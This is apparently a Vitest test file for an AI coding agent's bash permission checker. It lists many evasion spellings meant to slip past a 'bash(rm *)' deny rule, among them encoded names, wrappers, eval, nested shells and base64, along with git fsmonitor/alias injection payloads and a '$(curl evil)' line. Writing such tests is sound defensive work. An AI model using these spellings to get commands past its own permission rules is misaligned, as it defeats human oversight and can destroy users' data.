import { describe, expect, test } from "vitest";
import { parseRules } from "../../src/permissions/permission-decision.js";
import { analyseShellCommand } from "../../src/permissions/shell-commands.js";
import { bashDecisions, type Decision, denyRm } from "./bash-decision.js";

const decide = bashDecisions("shell-rules");

describe("--allow-all-tools --deny-tool 'bash(rm *)' against hostile spellings", () => {
  test.each<[string, Decision]>([
    // The six spellings of the issue.
    [`"rm" -rf x`, "denied"],
    [`r\\m -rf x`, "denied"],
    [`command rm -rf x`, "denied"],
    [`env rm -rf x`, "denied"],
    [`/bin/rm -rf x`, "denied"],
    [`bash -c 'rm -rf x'`, "denied"],
    // Quotes and escapes.
    [`'rm' -rf x`, "denied"],
    [`r"m" -rf x`, "denied"],
    [`"r"\\m -rf x`, "denied"],
    [`\\rm -rf x`, "denied"],
    [`$'rm' -rf x`, "denied"],
    [`$'\\x72\\x6d' -rf x`, "denied"],
    [`$'\\162\\155' -rf x`, "denied"],
    ["r\\\nm -rf x", "denied"],
    [`""rm -rf x`, "denied"],
    // Paths.
    [`/usr/bin/rm -rf x`, "denied"],
    [`./../../bin/rm -rf x`, "denied"],
    [`~/bin/rm x`, "denied"],
    // Wrappers and their options.
    [`command -p rm -rf x`, "denied"],
    [`builtin command rm x`, "denied"],
    [`env -i PATH=/bin rm -rf x`, "denied"],
    [`env -u HOME -- rm x`, "denied"],
    [`env --chdir=/tmp rm x`, "denied"],
    [`exec rm -rf x`, "denied"],
    [`exec -a name rm x`, "denied"],
    [`nohup rm -rf x &`, "denied"],
    [`sudo rm -rf x`, "denied"],
    [`sudo -u root -E rm -rf x`, "denied"],
    [`sudo --user=root nice -n 5 rm x`, "denied"],
    [`time rm -rf x`, "denied"],
    [`/usr/bin/time -v rm x`, "denied"],
    [`nice -10 rm x`, "denied"],
    [`timeout -s KILL 5 rm x`, "denied"],
    [`stdbuf -o0 rm x`, "denied"],
    [`setsid -f rm x`, "denied"],
    [`FOO=1 BAR=2 rm -rf x`, "denied"],
    [`echo x | xargs rm`, "denied"],
    [`find . -name x -exec rm {} \\;`, "denied"],
    [`busybox rm x`, "denied"],
    // Shells, eval and friends.
    [`sh -c "rm -rf x"`, "denied"],
    [`bash -lc 'cd /tmp && rm -rf x'`, "denied"],
    [`bash -c "bash -c 'rm x'"`, "denied"],
    [`eval rm -rf x`, "denied"],
    [`eval "rm -rf x"`, "denied"],
    [`trap 'rm -rf x' EXIT`, "denied"],
    [`su -c 'rm -rf x'`, "denied"],
    [`env -S 'rm -rf x'`, "denied"],
    // Compound commands and nesting.
    [`ls && rm -rf x`, "denied"],
    [`ls; rm x`, "denied"],
    [`true || rm x`, "denied"],
    [`ls | rm x`, "denied"],
    [`(rm x)`, "denied"],
    [`{ rm x; }`, "denied"],
    [`if true; then rm x; fi`, "denied"],
    [`for f in a; do rm "$f"; done`, "denied"],
    [`f() { rm x; }; f`, "denied"],
    [`echo $(rm -rf x)`, "denied"],
    ["echo `rm -rf x`", "denied"],
    [`cat <(rm x)`, "denied"],
    [`X=$(rm x) ls`, "denied"],
    ["cat <<EOF\n$(rm -rf x)\nEOF", "denied"],
    [`! rm x`, "denied"],
    [`coproc rm x`, "denied"],
    // Not understood, and mentioning rm: the deny rule applies.
    [`x=rm; $x -rf y`, "denied"],
    [`"$(echo rm)" -rf x`, "denied"],
    [`eval "$CMD rm x"`, "denied"],
    [`bash script.sh rm`, "denied"],
    ["bash <<EOF\nrm -rf x\nEOF", "denied"],
    [`echo 'rm -rf x' | sh`, "denied"],
    [`/bin/r? -rf x`, "denied"],
    [`{r,}m -rf x`, "denied"],
    // Not understood, no rm in sight: asked, never guessed.
    [`$(printf '\\x72\\x6d') -rf x`, "asked"],
    [`eval "$(echo cm0gLXJmIHgK | base64 -d)"`, "asked"],
    [`source ./script.sh`, "asked"],
    [`bash -c "$SCRIPT"`, "asked"],
    [`echo $((i + 1))`, "asked"],
    [`echo 'unterminated`, "asked"],
    // Understood and not rm: allowed.
    [`ls -la`, "allowed"],
    [`echo rm -rf x`, "allowed"],
    [`git commit -m "rm stuff"`, "allowed"],
    [`grep -r "rm -rf" .`, "allowed"],
    [`rmdir x`, "allowed"],
    [`npm run farm`, "allowed"],
    [`bash -c 'echo hi'`, "allowed"],
    [`echo $HOME > /dev/null`, "allowed"],
  ])("%j is %s", async (command, expected) => {
    expect(await decide(command, denyRm)).toBe(expected);
  });
});

describe("allow rules cover only what they name, read as bash reads it", () => {
  const allowGit = { allow: parseRules(["bash(git *)", "bash(ls)"]) };
  test.each<[string, Decision]>([
    [`git status`, "allowed"],
    [`"git" status && ls`, "allowed"],
    [`/usr/bin/git log | ls`, "allowed"],
    // As another user: only a rule that names sudo covers it (raised-privileges.test.ts).
    [`sudo git status`, "asked"],
    [`nice git status`, "allowed"],
    [`git status && rm -rf x`, "asked"],
    [`git status; $(curl evil)`, "asked"],
    [`git log > out.txt`, "asked"],
    [`bash -c 'git status'`, "allowed"],
    [`bash -c "$X"`, "asked"],
    [`eval git status`, "allowed"],
    [`git $(rm x)`, "asked"],
    [`ls -la`, "asked"],
    [`gitx status`, "asked"],
  ])("%j is %s", async (command, expected) => {
    expect(await decide(command, allowGit)).toBe(expected);
  });

  test("a rule written with a path is about the command name", async () => {
    const deny = { allowAllTools: true, deny: parseRules(["bash(/bin/rm *)"]) };
    expect(await decide("rm -rf x", deny)).toBe("denied");
  });
});

describe("an allow rule does not cover a command that sets variables (trial finding 19)", () => {
  const fsmonitor = `GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0="touch pwned; false"`;
  // The README's own rule, the prefix an "always" answer grants, and a config file's allow.
  const allowStatus = { allow: parseRules(["bash(git status)", "bash(git diff *)", "bash(ls)"]) };
  test.each<[string, Decision]>([
    [`${fsmonitor} git status`, "asked"],
    [`GIT_EXTERNAL_DIFF="touch pwned; true" git diff HEAD~1`, "asked"],
    [`env ${fsmonitor} git status`, "asked"],
    [`sudo GIT_SSH_COMMAND=x git status`, "asked"],
    [`env -S 'GIT_CONFIG_COUNT=1 git status'`, "asked"],
    [`export ${fsmonitor}; git status`, "asked"],
    [`declare -x ${fsmonitor}; git status`, "asked"],
    [`typeset -x GIT_DIR=x; git status`, "asked"],
    [`export GIT_DIR; git status`, "asked"],
    [`PATH=.:$PATH; git status`, "asked"],
    [`set -a; GIT_DIR=x; git status`, "asked"],
    [`git status && LD_PRELOAD=x ls`, "asked"],
    // A loop variable or a `{NAME}>` descriptor sets the variable too (a fresh user's check).
    [`for HOME in ./x; do git status; done`, "asked"],
    [`for PATH in ./bin:/usr/bin; do git status; done`, "asked"],
    [`select https_proxy in x; do git status; done`, "asked"],
    [`{ git status; } {HOME}>/dev/null`, "asked"],
    [`( git status ) {HOME}>/dev/null`, "asked"],
    [`git status {fd}>/dev/null`, "asked"],
    [`for f in a b; do git status; done`, "allowed"],
    [`git status 2>/dev/null`, "allowed"],
    // Inert variables with literal values, and arguments that merely look like assignments.
    [`LC_ALL=C NO_COLOR=1 git status`, "allowed"],
    [`env TZ=UTC git diff HEAD`, "allowed"],
    [`TZ=$(rm x) git status`, "asked"],
    [`git diff GIT_DIR=x`, "allowed"],
    [`git status`, "allowed"],
  ])("%j is %s", async (command, expected) => {
    expect(await decide(command, allowStatus)).toBe(expected);
  });

  test("an 'always' answer for the whole command still covers it; deny rules ignore assignments", async () => {
    const command = `${fsmonitor} git status`;
    expect(await decide(command, { allow: parseRules([`bash(${command})`]) })).toBe("allowed");
    const deny = { allowAllTools: true, deny: parseRules(["bash(git status)", "bash(rm *)"]) };
    expect(await decide(command, deny)).toBe("denied");
    expect(await decide("export A=1; env B=2 rm x", deny)).toBe("denied");
    expect(await decide("export A=1; git log", { allowAllTools: true })).toBe("allowed");
  });
});

describe("git's own aliases are read (trial finding 8)", () => {
  const denyPush = { allowAllTools: true, deny: parseRules(["bash(rm *)", "bash(git push *)"]) };
  test.each<[string, Decision]>([
    [`git -c alias.x='!rm victim' x`, "denied"],
    [`git -c alias.x="!rm" x victim`, "denied"],
    [`git -c alias.p=push p bare HEAD:refs/heads/viaalias`, "denied"],
    [`git -c Alias.P=push p bare`, "denied"],
    [`git -c alias.a=b -c alias.b='!rm x' a`, "denied"],
    [`git -c alias.p=push p`, "denied"],
    [`git -c alias.s=status s`, "allowed"],
    [`git -c alias.p=push -c user.name=x log`, "allowed"],
    // An alias whose value is not in the text: a deny rule for git applies, one for rm asks.
    [`git -c "alias.x=$y" x`, "denied"],
  ])("%j is %s", async (command, expected) => {
    expect(await decide(command, denyPush)).toBe(expected);
  });

  test.each([`git -c "alias.x=$y" x`, `git --config-env=alias.x=EVIL x`])(
    "%j is asked under --deny-tool 'bash(rm *)'",
    async (command) => {
      expect(await decide(command, denyRm)).toBe("asked");
    },
  );

  test("an allow rule judges what the alias runs", async () => {
    const allowStatus = { allow: parseRules(["bash(git status)"]) };
    expect(await decide("git -c alias.s=status s", allowStatus)).toBe("allowed");
    expect(await decide("git -c alias.s=push s", allowStatus)).toBe("asked");
    expect(await decide("git -c alias.status='!rm x' status", allowStatus)).toBe("asked");
  });
});

describe("analyseShellCommand", () => {
  test("gives every simple command in its plain spellings, and why a command is unclear", () => {
    const analysis = analyseShellCommand(
      `FOO=1 sudo -u root nice "r"\\m -rf x && echo "é $(/bin/ls ~)" > out`,
    );
    expect(analysis.commands.map((command) => command.forms)).toEqual([
      ["sudo -u root nice rm -rf x", "nice rm -rf x", "rm -rf x"],
      ["echo é $(/bin/ls ~)"],
      ["ls ~"],
    ]);
    expect(analysis.unclear).toEqual([]);
    expect(analysis.writes).toEqual(["> out"]);
    expect(analyseShellCommand(`$x; eval "$y"; bash`).unclear).toEqual([
      "a command name that is computed when it runs ($x)",
      "eval of a computed string",
      "bash reads commands from standard input",
    ]);
  });
});
